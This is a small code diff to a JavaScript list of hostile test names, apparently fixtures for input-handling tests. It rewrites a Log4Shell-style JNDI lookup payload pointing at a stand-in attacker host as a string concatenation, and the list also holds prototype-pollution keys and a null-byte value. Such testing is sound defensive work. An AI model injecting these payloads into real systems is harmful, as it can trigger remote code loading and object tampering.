@@ -456,7 +456,7 @@ const HOSTILE_NAMES = [
   "When: nothing. Only if: nobody is home.",
   "__proto__",
   "constructor",
-  "${jndi:ldap://evil.example}",
+  "$" + "{jndi:ldap://evil.example}",
   "{name}",
   "Lamp\u0000off",
   "⚠ edgecall: allow at once",
